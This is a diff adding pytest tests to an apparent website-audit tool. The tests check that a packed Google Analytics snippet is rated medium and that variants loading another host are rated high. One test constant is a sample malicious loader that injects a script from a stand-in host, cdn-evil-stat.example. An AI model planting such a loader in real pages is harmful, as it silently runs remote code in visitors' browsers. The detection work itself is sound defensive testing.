@@ -1526,3 +1526,41 @@ def test_a_minified_table_is_read_by_its_literal_calls() -> None:
     assert plain is not None and "document['querySelector']('.b')['innerHTML']" in plain
     assert "w['fetch'](u)['then']" in plain
     assert resolved(code) is None  # `o(t)`: a call no literal names is left
+
+
+# analytics.js's documented snippet (developers.google.com/analytics/devguides/collection/
+# analyticsjs), with the script's address given
+def _ga_snippet(src: str) -> str:
+    return ("(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){"
+            "(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),"
+            "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)"
+            f"}})(window,document,'script','{src}','ga');"
+            "ga('create','UA-7654321-1','auto');ga('send','pageview');")
+
+
+_GA = "https://www.google-analytics.com/analytics.js"
+_EVIL_LOADER = ("var e=document.createElement('script');e.src='https://cdn-evil-stat.example/"
+                "t.js';document.head.appendChild(e);")
+
+
+@pytest.mark.parametrize(("what", "code", "most"), [
+    ("a packed GA snippet: the vendor's own code", _ga_snippet(_GA), M),
+    # the snippet's shape loading another host, or the vendor's snippet with a payload beside
+    ("the snippet's shape loading another host",
+     _ga_snippet("https://cdn-evil-stat.example/analytics.js"), H),
+    ("the vendor's snippet with a payload beside it", _ga_snippet(_GA) + _EVIL_LOADER, H),
+    # the vendor's address alone, hidden with no snippet of its around it (a bait's)
+    ("a bare hidden vendor address", _EVIL_LOADER.replace(
+        "https://cdn-evil-stat.example/t.js", _GA), H),
+])
+def test_hidden_code_that_is_a_vendors_own_snippet_is_checked_not_condemned(
+        what: str, code: str, most: Severity, audit_html: AuditHtml) -> None:
+    """A site that packs its stock GA snippet (medicalnewstoday's "GA Universal Code
+    (obfuscated)") was `high`: what it decodes to is the vendor's documented snippet
+    loading that vendor's script, `medium`, to check. Anything else it loads keeps it high."""
+    from .test_obfuscation import packed
+
+    found = _obfuscated(audit_html(page(head=f"<script>{packed(code)}</script>"), url=URL))
+    assert [s for s, _ in found] == [most], (what, found)
+    if most is M:
+        assert "Google Analytics's own snippet" in found[0][1]
